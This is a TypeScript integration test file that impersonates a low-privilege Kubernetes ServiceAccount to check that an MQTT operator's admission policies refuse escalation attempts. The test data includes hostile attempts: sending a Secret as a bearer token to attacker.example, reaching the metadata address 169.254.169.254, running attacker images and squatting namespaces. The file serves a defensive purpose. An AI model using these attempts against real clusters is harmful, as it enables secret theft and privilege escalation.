// A tenant as an attacker would be: ServiceAccount team-a/intruder, bound only to enclave-edit in
// team-a, every request made by impersonating it against the real API server (with the chart
// installed: roles, CRDs, the ValidatingAdmissionPolicy) and a running operator. It tries to get
// more than its own broker out of Enclave — each guardrail of docs/security.md — and every attempt
// is refused, with the refusal asserted. Then the same identity does everything the examples do.
import { readFileSync, readdirSync } from 'node:fs';
import { join } from 'node:path';
import { parseAllDocuments } from 'yaml';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { helm, kubectl } from '../../support/world.ts';
import { waitForCrds } from '../../support/operator.ts';
import { repoRoot } from '../../support/paths.ts';
import { chartDir } from '../helm/helm.ts';
import { condition, eventually, get, list, startOperator, unb64, type MqttDeploymentObj, type Obj, type TestOperator } from '../operator/harness.ts';
import { legacyRuntimeNamespaceName } from '../../../operator/api/names.ts';

const release = 'atk';
const releaseNs = 'enclave-atk';
const TENANT = 'team-a';
const VICTIM = 'team-a-b';
const INTRUDER = `system:serviceaccount:${TENANT}:intruder`;
const API = 'mqtt.enclave.dev/v1alpha1';
const MD = 'mqttdeployments.mqtt.enclave.dev';
const SECRET_VALUE = 'db-root-password-of-team-a';
const createdNamespaces: string[] = [];
let op: TestOperator;

interface Result { code: number; stdout: string; stderr: string }

/** kubectl as the intruder: impersonation of the ServiceAccount with its real groups. */
function asIntruder(args: string[], input?: string): Promise<Result> {
  const as = [`--as=${INTRUDER}`, '--as-group=system:serviceaccounts', `--as-group=system:serviceaccounts:${TENANT}`, '--as-group=system:authenticated'];
  return kubectl([...as, ...args], { allowFailure: true, ...(input === undefined ? {} : { input }) });
}

const applyAsIntruder = (objects: unknown[]): Promise<Result> => asIntruder(['apply', '--server-side', '-f', '-'], objects.map((o) => JSON.stringify(o)).join('\n'));

async function refusedForIntruder(objects: unknown[]): Promise<string> {
  const r = await applyAsIntruder(objects);
  expect(r.code, `applied unexpectedly: ${r.stdout}`).not.toBe(0);
  return r.stderr;
}

const broker = (name: string, spec: Record<string, unknown> = {}): unknown =>
  ({ apiVersion: API, kind: 'MqttDeployment', metadata: { name, namespace: TENANT }, spec: { authentication: { allowAnonymous: true }, ...spec } });
const egressSource = (name: string, cidr: string): unknown =>
  ({ apiVersion: API, kind: 'AuthSource', metadata: { name, namespace: TENANT }, spec: { type: 'http', http: { url: 'https://auth.example/check' }, egress: [{ cidr, port: 443 }] } });
const md = (name: string, ns = TENANT): Promise<MqttDeploymentObj | undefined> => get<MqttDeploymentObj>(MD, name, ns);

beforeAll(async () => {
  await helm(['install', release, chartDir, '-n', releaseNs, '--create-namespace']);
  await waitForCrds();
  for (const n of [TENANT, VICTIM]) {
    if ((await kubectl(['create', 'namespace', n], { allowFailure: true })).code === 0) createdNamespaces.push(n);
  }
  await kubectl(['-n', TENANT, 'create', 'serviceaccount', 'intruder']);
  await kubectl(['-n', TENANT, 'create', 'rolebinding', 'intruder-enclave-edit', '--clusterrole=enclave-edit', `--serviceaccount=${TENANT}:intruder`]);
  // A Secret of team-a the intruder may not read: a database root password nobody opted in.
  await kubectl(['-n', TENANT, 'create', 'secret', 'generic', 'db-root', `--from-literal=token=${SECRET_VALUE}`, `--from-literal=password=${SECRET_VALUE}`]);
  op = await startOperator(releaseNs, 'atk-operator');
});

afterAll(async () => {
  for (const n of [TENANT, VICTIM]) await kubectl(['delete', MD, '--all', '-n', n, '--wait=false'], { allowFailure: true });
  await eventually('every MqttDeployment purged', async () => {
    const left = await Promise.all([TENANT, VICTIM].map(async (n) => (await kubectl(['get', MD, '-n', n, '-o', 'name'], { allowFailure: true })).stdout.trim()));
    return left.every((l) => l === '');
  }, 120_000).catch(() => undefined);
  await op?.stop();
  await kubectl(['-n', TENANT, 'delete', 'rolebinding', 'intruder-enclave-edit', '--ignore-not-found']);
  await kubectl(['-n', TENANT, 'delete', 'serviceaccount', 'intruder', '--ignore-not-found']);
  await kubectl(['-n', TENANT, 'delete', 'secret', 'db-root', '--ignore-not-found']);
  await helm(['uninstall', release, '-n', releaseNs, '--no-hooks'], { allowFailure: true });
  for (const n of [...createdNamespaces, releaseNs]) await kubectl(['delete', 'namespace', n, '--ignore-not-found', '--wait=false']);
});

describe('Secret exfiltration through the operator (SecretReferenceOptIn)', () => {
  it('cannot read the Secret, nor opt it in itself', async () => {
    expect((await asIntruder(['-n', TENANT, 'get', 'secret', 'db-root'])).stderr).toContain('forbidden');
    expect((await asIntruder(['-n', TENANT, 'label', 'secret', 'db-root', 'mqtt.enclave.dev/allow-reference=true'])).stderr).toContain('forbidden');
    expect((await asIntruder(['-n', TENANT, 'create', 'secret', 'generic', 'mine', '--from-literal=a=b'])).stderr).toContain('forbidden');
  });

  it('an http AuthSource that would send it as a Bearer token to a chosen URL gets nothing from it', async () => {
    const applied = await applyAsIntruder([
      { apiVersion: API, kind: 'AuthSource', metadata: { name: 'exfil', namespace: TENANT }, spec: { type: 'http', http: { url: 'https://attacker.example/collect', bearerTokenSecretRef: { name: 'db-root', key: 'token' } }, egress: [{ cidr: '198.51.100.0/24', port: 443 }] } },
      { apiVersion: API, kind: 'AuthSource', metadata: { name: 'exfil-pg', namespace: TENANT }, spec: { type: 'postgres', postgres: { host: 'attacker.example', database: 'x', credentialsSecretRef: { name: 'db-root' } }, passwordHash: { algorithm: 'plain' }, egress: [{ cidr: '198.51.100.0/24', port: 5432 }] } },
      broker('exfil', { authentication: { chain: [{ name: 'exfil' }, { name: 'exfil-pg' }] } }),
    ]);
    expect(applied.code).toBe(0);
    const m = await eventually('refused reference', async () => {
      const x = await md('exfil');
      return condition(x, 'Ready')?.reason === 'InvalidReference' ? x : undefined;
    });
    expect(condition(m, 'Ready')?.message).toContain('Secret db-root (absent, or without the label mqtt.enclave.dev/allow-reference: "true" that policy SecretReferenceOptIn requires)');
    // Not copied anywhere the intruder's broker could send it from.
    const runtimeNs = m.status!.namespace!;
    const copies = await list('secrets', runtimeNs).catch(() => [] as Obj[]);
    expect(copies.flatMap((s) => Object.values((s as Obj & { data?: Record<string, string> }).data ?? {}).map(unb64)).join()).not.toContain(SECRET_VALUE);
    expect((await asIntruder(['-n', runtimeNs, 'get', 'secrets'])).stderr).toContain('forbidden');
  });

  it('status tells it nothing about which Secrets or keys exist', async () => {
    await applyAsIntruder([
      { apiVersion: API, kind: 'AuthSource', metadata: { name: 'probe-real', namespace: TENANT }, spec: { type: 'http', http: { url: 'https://a.example', bearerTokenSecretRef: { name: 'db-root', key: 'token' } } } },
      { apiVersion: API, kind: 'AuthSource', metadata: { name: 'probe-fake', namespace: TENANT }, spec: { type: 'http', http: { url: 'https://a.example', bearerTokenSecretRef: { name: 'no-such', key: 'token' } } } },
    ]);
    const said = await Promise.all([['probe-real', 'db-root'], ['probe-fake', 'no-such']].map(([source, secret]) => eventually(`${source} reported`, async () => {
      const c = condition(await get<MqttDeploymentObj>('authsources.mqtt.enclave.dev', source!, TENANT), 'Ready');
      return c?.status === 'False' ? `${c.reason} ${c.message.replaceAll(secret!, 'X')}` : undefined;
    })));
    expect(said[0]).toBe(said[1]);
  });
});

describe('refused at admission by the chart\'s ValidatingAdmissionPolicy', () => {
  it.each([
    ['any image', broker('img', { image: 'docker.io/attacker/reads-its-config:1' }), 'policy AllowedBrokerImages'],
    ['a control-plane toleration', broker('tol', { tolerations: [{ key: 'node-role.kubernetes.io/control-plane', operator: 'Exists', effect: 'NoSchedule' }] }), 'policy TenantScheduling'],
    ['a nodeSelector', broker('sel', { nodeSelector: { 'kubernetes.io/hostname': 'control-plane-1' } }), 'policy TenantScheduling'],
    ['an affinity', broker('aff', { affinity: { nodeAffinity: {} } }), 'policy TenantScheduling'],
    ['20 replicas', broker('many', { replicas: 20, state: { backend: 'redis', redis: { managed: {} } } }), 'spec.replicas is above the ceiling 3 (policy ResourceCeilings)'],
    ['64Gi of memory', broker('mem', { resources: { limits: { memory: '64Gi' } } }), 'spec.resources.limits.memory must be a quantity of at most 2Gi (policy ResourceCeilings)'],
    ['16 CPUs', broker('cpu', { resources: { requests: { cpu: 16 } } }), 'spec.resources.requests.cpu must be a quantity of at most 2 (policy ResourceCeilings)'],
    ['a GPU', broker('gpu', { resources: { limits: { 'nvidia.com/gpu': 1 } } }), 'spec.resources.limits: only cpu and memory may be requested (policy ResourceCeilings)'],
    ['egress to the service range', egressSource('svc', '10.96.0.0/12'), 'policy DeniedEgress'],
    ['egress to a /8 holding the pod range', egressSource('pods', '10.0.0.0/8'), 'policy DeniedEgress'],
    ['egress to one pod', egressSource('pod', '10.244.1.17/32'), 'policy DeniedEgress'],
    ['egress to another team\'s pods', { apiVersion: API, kind: 'AuthSource', metadata: { name: 'team-b-db', namespace: TENANT }, spec: { type: 'x509', egress: [{ namespace: 'team-b', podLabels: { app: 'postgres' }, port: 5432 }] } }, 'an in-cluster backend may only be in the AuthSource\'s own namespace (policy DeniedEgress)'],
    ['egress to kube-system', { apiVersion: API, kind: 'AuthSource', metadata: { name: 'kube', namespace: TENANT }, spec: { type: 'x509', egress: [{ namespace: 'kube-system', port: 443 }] } }, 'policy DeniedEgress'],
  ])('%s', async (_what, object, message) => {
    expect(await refusedForIntruder([object])).toContain(message);
  });

  it('an allowed spec changed into a refused one is refused too', async () => {
    expect((await applyAsIntruder([broker('grows')])).code).toBe(0);
    expect(await refusedForIntruder([broker('grows', { replicas: 10, state: { backend: 'redis', redis: { managed: {} } } })])).toContain('policy ResourceCeilings');
  });
});

describe('refused by the API server', () => {
  it('egress to the cloud metadata address (CRD rule)', async () => {
    expect(await refusedForIntruder([egressSource('meta', '169.254.169.254/32')])).toContain('cidr must not reach the link-local range 169.254.0.0/16');
  });

  it('a name the operator cannot build (CRD rule)', async () => {
    expect(await refusedForIntruder([broker('dotted.name')])).toContain('metadata.name must be a DNS label');
  });

  it('faking status, or touching the runtime namespace\'s quota', async () => {
    expect((await asIntruder(['-n', TENANT, 'patch', MD, 'grows', '--subresource=status', '--type=merge', '-p', '{"status":{"conditions":[]}}'])).stderr).toContain('forbidden');
    const m = await eventually('grows reconciled', async () => {
      const x = await md('grows');
      return x?.status?.configHash ? x : undefined;
    });
    const runtimeNs = m.status!.namespace!;
    await eventually('quota in place', async () => (await get('resourcequota', 'enclave-ceilings', runtimeNs)) !== undefined);
    expect(await get('limitrange', 'enclave-ceilings', runtimeNs)).toBeDefined();
    expect((await asIntruder(['-n', runtimeNs, 'delete', 'resourcequota', 'enclave-ceilings'])).stderr).toContain('forbidden');
  });
});

describe('runtime namespace squatting', () => {
  it('team-a/b-broker first cannot take team-a-b/broker\'s namespace or address', async () => {
    expect(legacyRuntimeNamespaceName(TENANT, 'b-broker')).toBe(legacyRuntimeNamespaceName(VICTIM, 'broker'));
    expect((await applyAsIntruder([broker('b-broker')])).code).toBe(0);
    const squatter = await eventually('squatter reconciled', async () => ((await md('b-broker'))?.status?.configHash ? md('b-broker') : undefined));
    await kubectl(['apply', '--server-side', '-f', '-'], { input: JSON.stringify({ apiVersion: API, kind: 'MqttDeployment', metadata: { name: 'broker', namespace: VICTIM }, spec: { authentication: { allowAnonymous: true } } }) });
    const victim = await eventually('victim reconciled', async () => ((await md('broker', VICTIM))?.status?.configHash ? md('broker', VICTIM) : undefined));
    expect(condition(victim, 'Degraded')?.reason).not.toBe('OwnershipConflict');
    expect(victim.status?.namespace).not.toBe(squatter.status?.namespace);
    expect(victim.status?.endpoints?.[0]?.address).not.toBe(squatter.status?.endpoints?.[0]?.address);
  });
});

describe('a policy tightened under existing objects', () => {
  it('blocks spec changes only: metadata edits and the operator\'s finalizer removal (the purge) go through', async () => {
    expect((await applyAsIntruder([broker('at-ceiling', { replicas: 3, state: { backend: 'redis', redis: { managed: {} } } })])).code).toBe(0);
    await eventually('at-ceiling has its finalizer', async () => (await md('at-ceiling'))?.metadata.finalizers?.includes('mqtt.enclave.dev/purge'));
    await helm(['upgrade', release, chartDir, '-n', releaseNs, '--reuse-values', '--set', 'policy.ceilings.replicas=2']);
    try {
      // The API server picks a changed admission policy up within a moment: probe with a dry run.
      await eventually('the tighter policy in force', async () =>
        (await asIntruder(['apply', '--server-side', '--dry-run=server', '-f', '-'], JSON.stringify(broker('probe', { replicas: 3, state: { backend: 'redis', redis: { managed: {} } } })))).stderr.includes('ceiling 2'));
      expect((await asIntruder(['-n', TENANT, 'label', MD, 'at-ceiling', 'team=a'])).code).toBe(0);
      expect(await refusedForIntruder([broker('at-ceiling', { replicas: 3, state: { backend: 'redis', redis: { managed: {} } }, authentication: { allowAnonymous: false } })])).toContain('spec.replicas is above the ceiling 2 (policy ResourceCeilings)');
      expect((await asIntruder(['-n', TENANT, 'delete', MD, 'at-ceiling', '--wait=false'])).code).toBe(0);
      await eventually('purged: the finalizer update was not blocked', async () => (await md('at-ceiling')) === undefined, 90_000);
    } finally {
      await helm(['upgrade', release, chartDir, '-n', releaseNs, '--reuse-values', '--set', 'policy.ceilings.replicas=3']);
    }
  });
});

describe('what the examples do still works for the same identity', () => {
  // Every example folder in team-a: its Namespace and Secrets are the Secret owner's to apply (they
  // carry the opt-in); the Enclave objects are the intruder's.
  const folders = readdirSync(join(repoRoot, 'examples'), { withFileTypes: true })
    .filter((d) => d.isDirectory() && d.name !== 'quickstart' && d.name !== 'auth-schemas').map((d) => d.name).sort();

  it.each(folders)('examples/%s', async (folder) => {
    const docs = readdirSync(join(repoRoot, 'examples', folder)).filter((f) => f.endsWith('.yaml')).sort()
      .flatMap((f) => parseAllDocuments(readFileSync(join(repoRoot, 'examples', folder, f), 'utf8')).map((d) => d.toJS() as Obj | null))
      .filter((o): o is Obj => o !== null);
    const owners = docs.filter((o) => o.kind === 'Namespace' || o.kind === 'Secret');
    const enclave = docs.filter((o) => o.apiVersion === API);
    expect(enclave.length).toBeGreaterThan(0);
    await kubectl(['apply', '--server-side', '-f', '-'], { input: owners.map((o) => JSON.stringify(o)).join('\n') });
    const r = await applyAsIntruder(enclave);
    expect(r.stderr).toBe('');
    expect(r.code).toBe(0);
    // Applied and rolling out (or running, on a node): never refused, whatever the order the
    // operator saw the objects in (an issued certificate comes a moment after its deployment).
    for (const m of enclave.filter((o) => o.kind === 'MqttDeployment')) {
      let last = '';
      await eventually(`${folder}: ${m.metadata.name} applied`, async () => {
        const x = await md(m.metadata.name);
        const ready = condition(x, 'Ready');
        last = `${ready?.reason}: ${ready?.message}`;
        return x?.status?.observedGeneration === x?.metadata.generation && ['Available', 'RollingOut'].includes(ready?.reason ?? '') ? x : undefined;
      }).catch((err: unknown) => {
        throw new Error(`${(err as Error).message}; last Ready ${last}`);
      });
    }
  });
});
